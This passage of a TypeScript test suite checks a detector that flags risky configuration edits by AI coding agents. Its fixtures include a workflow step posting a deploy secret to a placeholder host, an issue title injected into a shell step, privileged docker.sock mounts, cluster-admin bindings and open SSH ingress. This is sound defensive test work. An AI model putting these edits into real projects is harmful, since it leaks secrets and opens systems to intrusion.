  { name: 'IAM policy with specific actions on a specific ARN', path: `${P}/infra/iam.tf`, content: 'data "aws_iam_policy_document" "read" {\n  statement {\n    actions   = ["s3:GetObject", "s3:ListBucket"]\n    resources = ["arn:aws:s3:::logs", "arn:aws:s3:::logs/*"]\n  }\n}\nresource "aws_iam_role" "lambda" {\n  assume_role_policy = jsonencode({\n    Statement = [{ Effect = "Allow", Action = "sts:AssumeRole", Principal = { Service = "lambda.amazonaws.com" } }]\n  })\n}\n' },
  { name: 'bucket policy for a service with a condition', path: `${P}/policies/b.json`, content: '{"Statement":[{"Effect":"Allow","Principal":{"Service":"cloudtrail.amazonaws.com"},"Action":"s3:PutObject","Resource":"arn:aws:s3:::trail/*","Condition":{"StringEquals":{"aws:SourceAccount":"123456789012"}}},{"Effect":"Deny","Principal":"*","Action":"s3:*","Resource":"arn:aws:s3:::trail/*","Condition":{"Bool":{"aws:SecureTransport":"false"}}}]}' },
  { name: 'GitHub OIDC trust pinned to one repository', path: `${P}/infra/oidc.tf`, content: 'resource "aws_iam_role" "gh" {\n  assume_role_policy = jsonencode({\n    Statement = [{\n      Effect = "Allow"\n      Action = "sts:AssumeRoleWithWebIdentity"\n      Principal = { Federated = "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com" }\n      Condition = { StringLike = { "token.actions.githubusercontent.com:sub" = "repo:acme/app:ref:refs/heads/main" } }\n    }]\n  })\n}\n' },
  { name: 'workflow: contents read + npm test', path: `${P}/.github/workflows/ci.yml`, content: 'name: ci\non:\n  push:\n    branches: [main]\n  pull_request:\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with: {node-version: 20, cache: npm}\n      - run: npm ci\n      - run: npm test -- --coverage\n' },
  { name: 'workflow: NPM_TOKEN as NODE_AUTH_TOKEN for npm publish', path: `${P}/.github/workflows/release.yml`, content: 'on:\n  release:\n    types: [published]\npermissions:\n  contents: read\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          registry-url: https://registry.npmjs.org\n      - run: npm ci && npm publish --provenance\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n' },
  { name: 'workflow: token in an Authorization header, docker login via stdin', path: `${P}/.github/workflows/x.yml`, content: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -fsS -H "Authorization: Bearer ${{ secrets.API_TOKEN }}" https://api.example.com/deploy\n      - run: echo "${{ secrets.REGISTRY_PASSWORD }}" | docker login ghcr.io -u me --password-stdin\n      - run: echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > ~/.npmrc\n        env:\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n' },
  { name: 'compose with ports, named volumes and a project bind', path: `${P}/docker-compose.yml`, content: 'services:\n  db:\n    image: postgres:16\n    ports: ["5432:5432"]\n    environment:\n      POSTGRES_PASSWORD: ${POSTGRES_PASSWORD}\n    volumes:\n      - pgdata:/var/lib/postgresql/data\n      - ./init.sql:/docker-entrypoint-initdb.d/init.sql:ro\n      - /etc/localtime:/etc/localtime:ro\n  web:\n    build: .\n    ports: ["3000:3000"]\n    cap_add: [NET_BIND_SERVICE]\nvolumes:\n  pgdata: {}\n' },
  { name: 'Dockerfile: root to install, USER node at the end', path: `${P}/Dockerfile`, content: 'FROM node:20-slim\nUSER root\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\n  && rm -rf /var/lib/apt/lists/* \\\n  && useradd -m app && chmod +x /usr/local/bin/docker-entrypoint.sh\nWORKDIR /app\nCOPY --chown=node:node package*.json ./\nRUN npm ci --omit=dev\nCOPY --chown=node:node . .\nRUN chmod 1777 /tmp\nUSER node\nCMD ["node", "server.js"]\n' },
  { name: 'Role-free manifests: ConfigMap and Ingress', path: `${P}/k8s/cm.yaml`, content: 'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata:\n  LOG_LEVEL: info\n---\napiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata: {name: web}\nspec:\n  rules:\n  - host: example.com\n    http:\n      paths: [{path: /, pathType: Prefix, backend: {service: {name: web, port: {number: 80}}}}]\n' },
  { name: 'Secret manifest with placeholders only', path: `${P}/k8s/secret.yaml`, content: 'kind: Secret\nmetadata: {name: s}\nstringData:\n  password: ${DB_PASSWORD}\n  token: "<set me>"\n' },
  { name: 'GCP viewer binding', path: `${P}/infra/gcp.tf`, content: 'resource "google_storage_bucket_iam_member" "m" {\n  bucket = "b"\n  role   = "roles/storage.objectViewer"\n  member = "serviceAccount:app@p.iam.gserviceaccount.com"\n}\n' },
  { name: 'Helm template with resources from values', path: `${P}/charts/app/templates/deployment.yaml`, content: 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {{ include "app.fullname" . }}\nspec:\n  replicas: {{ .Values.replicaCount }}\n  template:\n    spec:\n      containers:\n        - name: {{ .Chart.Name }}\n          resources:\n            {{- toYaml .Values.resources | nindent 12 }}\n' },
  { name: 'NetworkPolicy egress to anywhere', path: `${P}/k8s/np.yaml`, content: 'kind: NetworkPolicy\nmetadata: {name: e}\nspec:\n  podSelector: {}\n  egress:\n  - to:\n    - ipBlock:\n        cidr: 0.0.0.0/0\n' },
  { name: 'workflow: webhook URL kept as a secret, masked values, decoded kubeconfig', path: `${P}/.github/workflows/n.yml`, content: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -X POST -H "Content-type: application/json" --data \'{"text":"done"}\' ${{ secrets.SLACK_WEBHOOK_URL }}\n      - run: echo "::add-mask::${{ secrets.X }}"\n      - run: echo "${{ secrets.KUBECONFIG_B64 }}" | base64 -d > kubeconfig\n' },
  { name: 'variables: a VPC range and open egress', path: `${P}/infra/variables.tf`, content: 'variable "vpc_cidr" {\n  default = "10.0.0.0/16"\n}\nvariable "egress_cidr" {\n  default = "0.0.0.0/0"\n}\n' },
  { name: 'Azure SQL: allow Azure services (0.0.0.0–0.0.0.0)', path: `${P}/infra/sql.tf`, content: 'resource "azurerm_mssql_firewall_rule" "azure" {\n  name = "AllowAzure"\n  start_ip_address = "0.0.0.0"\n  end_ip_address = "0.0.0.0"\n}\n' },
  { name: 'NACL admitting return traffic on ephemeral ports', path: `${P}/infra/nacl.tf`, content: 'resource "aws_network_acl_rule" "in" {\n  rule_number = 100\n  egress = false\n  protocol = "tcp"\n  rule_action = "allow"\n  cidr_block = "0.0.0.0/0"\n  from_port = 1024\n  to_port = 65535\n}\n' },
  { name: 'private GitHub repository', path: `${P}/infra/gh.tf`, content: 'resource "github_repository" "r" {\n  name = "app"\n  visibility = "private"\n}\n' },
  { name: 'Vault policy reading one application\'s secrets', path: `${P}/vault/app.hcl`, content: 'path "secret/data/myapp/*" {\n  capabilities = ["read", "list"]\n}\n' },
  { name: 'workflow_dispatch input in a script', path: `${P}/.github/workflows/release.yml`, content: 'on:\n  workflow_dispatch:\n    inputs:\n      version: {required: true}\npermissions:\n  contents: read\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make release VERSION=${{ github.event.inputs.version }}\n' },
  { name: 'API Gateway OPTIONS with no auth (CORS preflight)', path: `${P}/infra/api.tf`, content: 'resource "aws_api_gateway_method" "cors" {\n  http_method = "OPTIONS"\n  authorization = "NONE"\n}\n' },
];

function describe(v: Verdict): string {
  return `${v.risk}: ${v.reasons.map((r) => `${r.rule} ${r.message}`).join(' | ')}`;
}

test('sensitive configuration, written whole, is sensitive in every agent format, with the rule and the line', async () => {
  for (const c of SENSITIVE_FILES) {
    for (const agent of AGENTS) {
      const v = await evaluate(WRITE[agent](c.path, c.content), agent);
      assert.equal(v.risk, 'sensitive', `${c.name} [${agent}] → ${describe(v)}`);
      if (c.rule) assert.ok(v.reasons.some((r) => r.rule === c.rule && r.risk === 'sensitive'), `${c.name} [${agent}] wants ${c.rule} → ${describe(v)}`);
      if (c.line !== undefined && agent === 'claude') assert.ok(v.reasons.some((r) => r.message.startsWith(`line ${c.line}: `)), `${c.name} names line ${c.line} → ${describe(v)}`);
    }
  }
});

test('ordinary configuration, written whole, is never sensitive in any agent format', async () => {
  for (const c of ORDINARY_FILES) {
    for (const agent of AGENTS) {
      const v = await evaluate(WRITE[agent](c.path, c.content), agent);
      assert.notEqual(v.risk, 'sensitive', `${c.name} [${agent}] → ${describe(v)}`);
    }
  }
});

// ---- Edits whose file is not readable: the fragment is judged on its own ----------------------------------------

interface EditCase {
  name: string;
  path: string;
  old: string;
  new: string;
  sensitive: boolean;
}

const EDITS: EditCase[] = [
  { name: 'securityContext fragment starting mid-line', path: `${P}/k8s/d.yaml`, old: 'securityContext:\n          runAsNonRoot: true', new: 'securityContext:\n          privileged: true', sensitive: true },
  { name: 'hostNetwork added under a pod spec', path: `${P}/k8s/d.yaml`, old: '    spec:\n      containers:', new: '    spec:\n      hostNetwork: true\n      containers:', sensitive: true },
  { name: 'hostPath volume added', path: `${P}/k8s/d.yaml`, old: '      volumes:\n      - name: cache\n        emptyDir: {}', new: '      volumes:\n      - name: cache\n        hostPath:\n          path: /etc', sensitive: true },
  { name: 'verbs widened to *', path: `${P}/k8s/role.yaml`, old: '  verbs: ["get"]', new: '  verbs: ["*"]', sensitive: true },
  { name: 'roleRef changed to cluster-admin', path: `${P}/k8s/rb.yaml`, old: 'roleRef:\n  kind: ClusterRole\n  name: view', new: 'roleRef:\n  kind: ClusterRole\n  name: cluster-admin', sensitive: true },
  { name: 'cidr opened (HCL fragment)', path: `${P}/infra/main.tf`, old: '    from_port = 22\n    to_port = 22\n    cidr_blocks = ["10.0.0.0/8"]', new: '    from_port = 22\n    to_port = 22\n    cidr_blocks = ["0.0.0.0/0"]', sensitive: true },
  { name: 'ACL made public', path: `${P}/infra/s3.tf`, old: 'acl = "private"', new: 'acl = "public-read"', sensitive: true },
  { name: 'public-access block flipped off', path: `${P}/infra/s3.tf`, old: '  block_public_policy = true', new: '  block_public_policy = false', sensitive: true },
  { name: 'policy JSON fragment Action * Resource *', path: `${P}/iam/policy.json`, old: '"Action": "s3:GetObject",\n      "Resource": "arn:aws:s3:::b/*"', new: '"Action": "*",\n      "Resource": "*"', sensitive: true },
  { name: 'AdministratorAccess swapped in', path: `${P}/infra/attach.tf`, old: 'policy_arn = "arn:aws:iam::aws:policy/ReadOnlyAccess"', new: 'policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"', sensitive: true },
  { name: 'CFN AuthType NONE', path: `${P}/template.yaml`, old: '        AuthType: AWS_IAM', new: '        AuthType: NONE', sensitive: true },
  { name: 'workflow contents: write', path: `${P}/.github/workflows/ci.yml`, old: '  contents: read', new: '  contents: write', sensitive: true },
  { name: 'workflow permissions block removed', path: `${P}/.github/workflows/ci.yml`, old: 'permissions:\n  contents: read\n\njobs:', new: 'jobs:', sensitive: true },
  { name: 'workflow step posting a secret', path: `${P}/.github/workflows/ci.yml`, old: '      - run: npm test', new: '      - run: npm test\n      - run: curl -X POST --data "${{ secrets.DEPLOY_KEY }}" https://example.net/hook', sensitive: true },
  { name: 'workflow trigger switched to pull_request_target', path: `${P}/.github/workflows/ci.yml`, old: 'on:\n  pull_request:', new: 'on:\n  pull_request_target:', sensitive: true },
  { name: 'workflow trigger pull_request_target edited alone', path: `${P}/.github/workflows/ci.yml`, old: '  pull_request:\n    types: [opened]', new: '  pull_request_target:\n    types: [opened]', sensitive: true },
  { name: 'workflow issue title spliced into run', path: `${P}/.github/workflows/ci.yml`, old: '      - run: make', new: '      - run: echo "${{ github.event.issue.title }}"', sensitive: true },
  { name: 'Dockerfile USER root', path: `${P}/Dockerfile`, old: 'USER node', new: 'USER root', sensitive: true },
  { name: 'compose: privileged + docker.sock', path: `${P}/docker-compose.yml`, old: '    image: app', new: '    image: app\n    privileged: true\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock', sensitive: true },
  { name: 'public-access block resource deleted', path: `${P}/infra/s3.tf`, old: 'resource "aws_s3_bucket_public_access_block" "b" {\n  bucket = aws_s3_bucket.b.id\n  block_public_acls = true\n  restrict_public_buckets = true\n}\n', new: '', sensitive: true },
  { name: 'securityContext hardening deleted', path: `${P}/k8s/d.yaml`, old: '        securityContext:\n          runAsNonRoot: true\n', new: '', sensitive: true },
  { name: 'unparseable HCL fragment still caught by the line fallback', path: `${P}/infra/main.tf`, old: 'ingress {', new: 'ingress {\n    cidr_blocks = ["0.0.0.0/0"]', sensitive: true },
  // Ordinary edits.
  { name: 'replicas bumped', path: `${P}/k8s/d.yaml`, old: 'replicas: 2', new: 'replicas: 4', sensitive: false },
  { name: 'limits changed', path: `${P}/k8s/d.yaml`, old: '            cpu: 100m', new: '            cpu: 500m\n            memory: 512Mi', sensitive: false },
  { name: 'image tag bumped next to an existing privileged flag', path: `${P}/k8s/d.yaml`, old: '        image: app:1.0\n        securityContext:\n          privileged: true', new: '        image: app:1.1\n        securityContext:\n          privileged: true', sensitive: false },
  { name: 'workflow contents: read', path: `${P}/.github/workflows/ci.yml`, old: '  contents: write', new: '  contents: read', sensitive: false },
  { name: 'workflow step added: npm test', path: `${P}/.github/workflows/ci.yml`, old: '      - run: npm ci', new: '      - run: npm ci\n      - run: npm test', sensitive: false },
  { name: 'SG narrowed to 10.0.0.0/8', path: `${P}/infra/main.tf`, old: 'cidr_blocks = ["10.1.0.0/16"]', new: 'cidr_blocks = ["10.0.0.0/8"]', sensitive: false },
  { name: 'ALB 80 → 443', path: `${P}/infra/alb.tf`, old: '    from_port = 80\n    to_port = 80\n    cidr_blocks = ["0.0.0.0/0"]', new: '    from_port = 443\n    to_port = 443\n    cidr_blocks = ["0.0.0.0/0"]', sensitive: false },
  { name: 'policy JSON: one more specific action', path: `${P}/iam/policy.json`, old: '"Action": "s3:GetObject",', new: '"Action": ["s3:GetObject", "s3:ListBucket"],', sensitive: false },
  { name: 'Dockerfile USER root → node', path: `${P}/Dockerfile`, old: 'USER root', new: 'USER node', sensitive: false },
  { name: 'compose port added', path: `${P}/docker-compose.yml`, old: '    ports:\n      - "3000:3000"', new: '    ports:\n      - "3000:3000"\n      - "9229:9229"', sensitive: false },
];

test('edit fragments are judged by meaning in every agent format; ordinary edits are not sensitive', async () => {
  for (const c of EDITS) {
    for (const agent of AGENTS) {
      const v = await evaluate(EDIT[agent](c.path, c.old, c.new), agent);
      if (c.sensitive) assert.equal(v.risk, 'sensitive', `${c.name} [${agent}] → ${describe(v)}`);
      else assert.notEqual(v.risk, 'sensitive', `${c.name} [${agent}] → ${describe(v)}`);
    }
  }
});

// ---- Before → after, with the file's current text known --------------------------------------------------------

async function engineWith(files: Record<string, string>): Promise<Engine> {
  const parser = await loadBashParser();
  // A world of exactly these files: the edit's before/after comes from them.
  return new Engine(CONFIG, { parser, world: { ...EMPTY_WORLD, readText: (p: string) => files[p] } });
}

const DEPLOY = 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  replicas: 2\n  template:\n    spec:\n      containers:\n      - name: app\n        image: app:1.0\n        securityContext:\n          privileged: true\n';
const HARDENED = 'kind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n      - name: app\n        image: app:1.0\n        securityContext:\n          runAsNonRoot: true\n          allowPrivilegeEscalation: false\n';
const WORKFLOW = 'name: ci\non: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm test\n';
const BUCKET = 'resource "aws_s3_bucket" "b" {\n  bucket = "x"\n}\n\nresource "aws_s3_bucket_public_access_block" "b" {\n  bucket                  = aws_s3_bucket.b.id\n  block_public_acls       = true\n  block_public_policy     = true\n  ignore_public_acls      = true\n  restrict_public_buckets = true\n}\n';
const NS = 'kind: Namespace\nmetadata:\n  name: apps\n  labels:\n    pod-security.kubernetes.io/enforce: restricted\n';
const SG = 'resource "aws_security_group" "web" {\n  ingress {\n    from_port = 443\n    to_port = 443\n    protocol = "tcp"\n    cidr_blocks = ["0.0.0.0/0"]\n  }\n}\n';

test('before → after: an unrelated edit of a file that already loosens something is not flagged again', async () => {
  const path = `${P}/k8s/web.yaml`;
  const e = await engineWith({ [path]: DEPLOY });
  for (const agent of ['claude', 'gemini', 'vscode', 'copilot-cli', 'cline', 'cursor'] as AgentName[]) {
    const v = e.evaluate(EDIT[agent](path, 'replicas: 2', 'replicas: 5'), agent);
    assert.notEqual(v.risk, 'sensitive', `[${agent}] ${describe(v)}`);
  }
  // The same file rewritten whole with one more privileged container is new.
  const more = DEPLOY + '      - name: sidecar\n        image: proxy\n        securityContext:\n          privileged: true\n';
  const v = e.evaluate(WRITE.claude(path, more), 'claude');
  assert.equal(v.risk, 'sensitive', describe(v));
  assert.ok(v.reasons.some((r) => r.message.startsWith('line 17: ') && r.message.includes('sidecar')), describe(v));
  assert.equal(e.evaluate(WRITE.claude(path, DEPLOY.replace('replicas: 2', 'replicas: 3')), 'claude').risk, 'safe');
});

test('before → after: protections removed are sensitive, each reason naming the old line', async () => {
  const wf = `${P}/.github/workflows/ci.yml`;
  const tf = `${P}/infra/s3.tf`;
  const dep = `${P}/k8s/hardened.yaml`;
  const ns = `${P}/k8s/ns.yaml`;
  const e = await engineWith({ [wf]: WORKFLOW, [tf]: BUCKET, [dep]: HARDENED, [ns]: NS });

  const noPerms = e.evaluate(EDIT.claude(wf, 'permissions:\n  contents: read\n', ''), 'claude');
  assert.equal(noPerms.risk, 'sensitive', describe(noPerms));
  assert.ok(noPerms.reasons.some((r) => r.rule === 'content.workflow-permissions' && /line 3 of the old text/.test(r.message)), describe(noPerms));

  const noBlock = e.evaluate(WRITE.gemini(tf, 'resource "aws_s3_bucket" "b" {\n  bucket = "x"\n}\n'), 'gemini');
  assert.equal(noBlock.risk, 'sensitive', describe(noBlock));
  assert.ok(noBlock.reasons.some((r) => r.rule === 'content.public-access'), describe(noBlock));

  const softened = e.evaluate(EDIT.vscode(dep, '          runAsNonRoot: true\n          allowPrivilegeEscalation: false\n', ''), 'vscode');
  assert.equal(softened.risk, 'sensitive', describe(softened));

  const lowered = e.evaluate(EDIT['copilot-cli'](ns, 'enforce: restricted', 'enforce: baseline'), 'copilot-cli');
  assert.equal(lowered.risk, 'sensitive', describe(lowered));
  const raised = e.evaluate(EDIT['copilot-cli'](ns, 'enforce: restricted', 'enforce: restricted\n    pod-security.kubernetes.io/warn: restricted'), 'copilot-cli');
  assert.notEqual(raised.risk, 'sensitive', describe(raised));
});

test('before → after: a worsened rule on an unchanged line still counts; an unchanged one does not', async () => {
  const path = `${P}/infra/web.tf`;
  const e = await engineWith({ [path]: SG });
  // The cidr line stays the same; the port moves from 443 to 22.
  const v = e.evaluate(EDIT.claude(path, '    from_port = 443\n    to_port = 443', '    from_port = 22\n    to_port = 22'), 'claude');
  assert.equal(v.risk, 'sensitive', describe(v));
  assert.ok(v.reasons.some((r) => r.rule === 'content.network-open' && r.message.startsWith('line 6: ')), describe(v));
  const same = e.evaluate(EDIT.claude(path, 'protocol = "tcp"', 'protocol = "tcp" # https'), 'claude');
  assert.notEqual(same.risk, 'sensitive', describe(same));
});

test('patches: an added file is judged whole, an update by its hunk', async () => {
  const add = WRITE.codex(`${P}/k8s/crb.yaml`, 'kind: ClusterRoleBinding\nmetadata: {name: b}\nroleRef: {kind: ClusterRole, name: cluster-admin}\nsubjects: [{kind: Group, name: system:authenticated}]\n');
  const v = await evaluate(add, 'codex');
  assert.equal(v.risk, 'sensitive', describe(v));
  const span = v.reasons.find((r) => r.rule === 'content.rbac')?.span;
  assert.ok(span && span.field === 'content' && span.text.length > 0, describe(v));
  const update = await evaluate(EDIT.codex(`${P}/infra/main.tf`, '    cidr_blocks = ["10.0.0.0/8"]', '    cidr_blocks = ["0.0.0.0/0"]'), 'codex');
  assert.equal(update.risk, 'sensitive', describe(update));
});
